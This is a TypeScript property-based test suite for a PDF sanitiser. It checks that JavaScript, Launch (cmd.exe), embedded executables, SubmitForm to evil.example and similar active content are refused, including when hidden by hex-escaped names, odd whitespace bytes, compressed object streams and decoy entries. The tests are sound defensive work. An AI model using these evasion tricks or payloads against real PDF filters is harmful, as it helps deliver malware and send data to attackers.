import fc from 'fast-check';
import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { cleaned } from '../../sample-files.for-tests.ts';
import { checkedPdf } from './pdf.ts';
import { runs } from '../../../../tests/support/runs.ts';

fc.configureGlobal({ seed: 20261128 });

const latin1 = (text: string) => Buffer.from(text, 'latin1');
const deflated = (text: string) => deflateSync(latin1(text)).toString('latin1');
const object = (number: number, body: string) => `${number} 0 obj\n${body}\nendobj\n`;
const CATALOGUE = object(1, '<< /Type /Catalog /Pages 2 0 R >>');
const PAGES = object(2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>');
const PAGE = object(3, '<< /Type /Page /Parent 2 0 R >>');
const END = 'trailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n';
const document = (...objects: string[]) =>
  latin1(`%PDF-1.7\n${CATALOGUE}${PAGES}${PAGE}${objects.join('')}${END}`);

/** Active content that must be refused, with the names that reveal it. */
const ACTIVE = fc.constantFrom(
  ['/S /JavaScript /JS (app.alert\\(1\\))', 'JavaScript'],
  ['/OpenAction << /S /JavaScript /JS 9 0 R >>', 'JavaScript'],
  ['/S /Launch /F (cmd.exe)', 'Launch'],
  ['/AA << /O << /S /Launch >> >>', 'Launch'],
  ['/Names << /EmbeddedFiles << /Names [(a) 7 0 R] >> >>', 'EmbeddedFiles'],
  ['/Type /EmbeddedFile', 'EmbeddedFile'],
  ['/AF [<< /F (a.exe) /EF << /F 7 0 R >> >>]', 'EF'],
  ['/S /SubmitForm /F (https://evil.example)', 'SubmitForm'],
  ['/S /GoToR /F (//evil.example/x)', 'GoToR'],
  ['/S /Thread /F (//evil.example/x)', 'Thread'],
  ['/XFA 7 0 R', 'XFA'],
  ['/3DD << /OnInstantiate 7 0 R >>', 'OnInstantiate'],
  ['/OpenAction << /S /URI /URI (https://evil.example) >>', 'OpenAction'],
);

/** The name with some of its characters written as numbers. */
const numbered = (name: string) =>
  fc
    .array(fc.constantFrom('', 'lower', 'upper'), { minLength: name.length, maxLength: name.length })
    .map((ways) =>
      name.replaceAll(/./g, (character, index: number) => {
        const number = `#${character.charCodeAt(0).toString(16).padStart(2, '0')}`;
        if (ways[index] === '') return character;
        return ways[index] === 'lower' ? number : number.toUpperCase();
      }),
    );

const active = ACTIVE.chain(([entry, name]) =>
  numbered(name).map((written) => entry.replace(`/${name}`, `/${written}`)),
);

describe('active content whose bytes stand as they are', () => {
  const places: [string, (entry: string) => string][] = [
    ['in an object', (entry) => object(5, `<< ${entry} >>`)],
    [
      'in a text that looks like an object',
      (entry) => object(4, `<< /X (\n5 0 obj << ${entry} >>\nendobj\n) >>`),
    ],
    ['in a comment', (entry) => `% 5 0 obj << ${entry} >> endobj\n`],
    [
      'in the data of a picture',
      (entry) => object(4, `<< /Length 99 >>\nstream\n5 0 obj << ${entry} >>\nendstream`),
    ],
    ['behind the end', (entry) => `${END}${object(5, `<< ${entry} >>`)}`],
    [
      'before a byte that Chrome takes for a blank',
      (entry) => object(5, `<< ${entry.replaceAll(' ', '\x80')} >>`),
    ],
    ['behind a tab', (entry) => object(5, `<< ${entry.replaceAll(' ', '\t')} >>`)],
    ['behind a comment', (entry) => object(5, `<< ${entry.replaceAll(' ', '%)\r')} >>`)],
  ];
  it.each(places)('is refused: %s', async (_place, put) => {
    await fc.assert(
      fc.asyncProperty(active, async (entry) => {
        await expect(cleaned(checkedPdf, document(put(entry)))).rejects.toMatchObject({
          name: 'FileRefusal',
        });
      }),
      { numRuns: runs(100) },
    );
  });
});

/** Endings of a stream's dictionary and beginnings of its data that some reader accepts. */
const TURNS = [
  '>>\nstream\n',
  '>>stream\r\n',
  '>>%(\nstream\n',
  '>>\0 \tstream\r',
  '>> stream \n',
  '>>stream%x\n',
];
TURNS.push(`>>stream ${deflated('7 0 << >>')}\n`);

/** Entries that some reader passes over, and that may mislead a search for words. */
const DECOYS = [
  '/X (\n1 0 obj)',
  '/X (1 0 obj <<)',
  '/X (1 0 obj << >>\nendobj)',
  '/X (>>\nendobj\n8 0 obj\n<< /Length 3 >>\nstream\nabc\nendstream\nendobj\n)',
  `/X (stream\n${deflated('7 0 << >>').replaceAll(/[()\\]/g, '\\$&')}\nendstream)`,
  '/X (\\)>>stream\n)',
  '/X (()\\(())',
  '/X <28>',
  '/X << /Y [1 (>>) << >>] >>',
  '/X /ObjStm',
  '/X [/First 4]',
  '/X (/Type /ObjStm)',
  '%>>\n',
  '%/ObjStm\n',
  '%(\r',
  '/X 5 0 R',
  '/F 8 0 R',
  '/DP 8 0 R',
  '/DecodeParms 8 0 R',
  '/DecodeParms << /Predictor 12 /Columns 2 >>',
  '/Decode#50arms [8 0 R]',
  '/Filter /ASCIIHexDecode',
  '/Filter 8 0 R',
  '/Type /XRef /W [1 1 1]',
  '/Type /Metadata',
  '/X\x80 4',
  '/X\xfftrue /First\x804 /N\x801',
  '\n7 0 obj << ',
  '\nendobj 7 0 obj << ',
  '/X << /Y >> /Z',
  '<< /Y 1 >>',
  '/X [',
  '/X 1 2',
  '/X 1e',
];

const listed = <Thing>(things: readonly Thing[], most: number) =>
  fc.array(fc.constantFrom(...things), { maxLength: most });

/** A stream of packed objects whose active content some reader reads. */
const hidden = fc
  .record({
    entry: active,
    type: fc.constantFrom('/Type /ObjStm', '/T#79pe /Obj#53tm', '', '/Type 8 0 R'),
    first: fc.constantFrom('/First 4', '/F#69rst 4', '/First 8 0 R', '/First\n4'),
    filter: fc.constantFrom(
      '/Filter /FlateDecode',
      '/Filter [/FlateDecode]',
      '/Filter 8 0 R',
      '/F /Fl',
      '/#46ilter [/Fl]',
    ),
    before: listed(DECOYS, 2),
    between: listed(DECOYS, 2),
    after: listed(DECOYS, 2),
    turn: fc.constantFrom(...TURNS),
    level: fc.constantFrom(1, 9),
    head: fc.constantFrom(
      '5 0 obj\n',
      '5 0 obj',
      '5 0 %(\nobj',
      '5 0 obj%>>\n',
      '5\x800\x80obj\x80',
      '05 00 obj\0',
    ),
    beforeObject: fc.constantFrom('', '(', '%', '<', '<< /X (', '8 0 obj <<\n', '8 0 obj (', 'stream\n'),
    padding: fc.constantFrom(0, 4_000, 70_000),
    isTwice: fc.boolean(),
  })
  .map((way) => {
    const pack = (objects: string) => deflateSync(latin1(objects), { level: way.level }).toString('latin1');
    const entries = [way.type, way.first, '/N 1', way.filter];
    const dictionary = [
      ...way.before,
      ...entries.slice(0, 2),
      ...way.between,
      ...entries.slice(2),
      ...way.after,
    ];
    const stream = (packed: string) =>
      `${way.head}<< ${dictionary.join(' ')} ${way.turn}${packed}\nendstream\nendobj\n`;
    const payload = `5 0 << ${entriesOf(way.padding)} ${way.entry} >> `;
    const packed = way.isTwice
      ? pack(`9 0 << /First 4 /N 1 /Filter /FlateDecode >>\nstream\n${pack(payload)}\nendstream `)
      : pack(payload);
    return `${way.beforeObject}${stream(packed)}`;
  });

function entriesOf(characters: number): string {
  return '/Y 1 '.repeat(characters / 5);
}

describe('active content in packed objects', () => {
  it('is refused however the objects are hidden', async () => {
    await fc.assert(
      fc.asyncProperty(hidden, async (packed) => {
        await expect(cleaned(checkedPdf, document(packed), [70_000, 7])).rejects.toMatchObject({
          name: 'FileRefusal',
        });
      }),
      { numRuns: runs(3_000) },
    );
  });

  it.each(DECOYS)('is refused beside %s', async (decoy) => {
    for (const type of ['/Type /ObjStm', '']) {
      for (const entries of [`${decoy} ${type} /First 4`, `${type} /First 4 ${decoy}`]) {
        const packed = `<< ${entries} /N 1 /Filter /FlateDecode >>\nstream\n${deflated('5 0 << /S /Launch >>')}\nendstream`;
        await expect(cleaned(checkedPdf, document(object(5, packed)))).rejects.toMatchObject({
          name: 'FileRefusal',
        });
      }
    }
  });

  it('is refused in an object that begins within the data of another', async () => {
    const inner = `<< /First 4 /N 1 /Filter /FlateDecode >>\nstream\n${deflated('5 0 << /S /Launch >>')}\nendstream`;
    const outer = object(4, `<< /Length 999 >>\nstream\n${object(5, inner)}\nendstream`);
    await expect(cleaned(checkedPdf, document(outer))).rejects.toMatchObject({ code: 'active' });
  });

  it('is refused as locked if the file is encrypted, even if the data can be unpacked', async () => {
    const packed = `<< /Type /ObjStm /First 4 /N 1 /Filter /FlateDecode >>\nstream\n${deflated('5 0 << >>')}\nendstream`;
    const file = document(object(5, packed), object(6, '<< /Encrypt 7 0 R >>'));
    await expect(cleaned(checkedPdf, file)).rejects.toMatchObject({ code: 'locked' });
  });
});

describe('a document that can be read in one way only', () => {
  const packed = (entries: string, objects = '7 0 << /Title (Live stream) >>') =>
    object(5, `<< /Type /ObjStm /N 1 /First 4 ${entries} >>\nstream\n${deflated(objects)}\nendstream`);
  it.each([
    ['with a comment', packed('%)>>\n /Filter /FlateDecode')],
    ['with a text', packed('/Filter [/FlateDecode] /X (a \\) (b) >> )')],
    ['with a dictionary', packed('/Filter /FlateDecode /X << /Y [1 -.5 null (a) <0A> << /Z true >>] >>')],
    ['with what it extends', packed('/Filter /FlateDecode /Extends 6 0 R /Length 8 0 R /DecodeParms null')],
    ['an outline', object(5, '<< /First 6 0 R /Last 7 0 R /Count -2 >>')],
    [
      'a picture',
      object(5, '<< /Filter [/ASCII85Decode /DCTDecode] /DecodeParms [null null] >>\nstream\nabc\nendstream'),
    ],
    ['letters of another alphabet', object(5, '<< /BaseFont /ABCDEF+\x82\x80\x82 >>')],
    ['without the end of an object', '5 0 obj\n<< /X 1 >>\n6 0 obj\n<< /X 1 >>\nendobj\n'],
    ['data that look like objects', object(5, '<< /Length 9 >>\nstream\nthe obj of 1 0 obj\nendstream')],
  ])('is taken: %s', async (_case, objects) => {
    const file = document(objects);
    expect((await cleaned(checkedPdf, file)).equals(file)).toBe(true);
  });
});
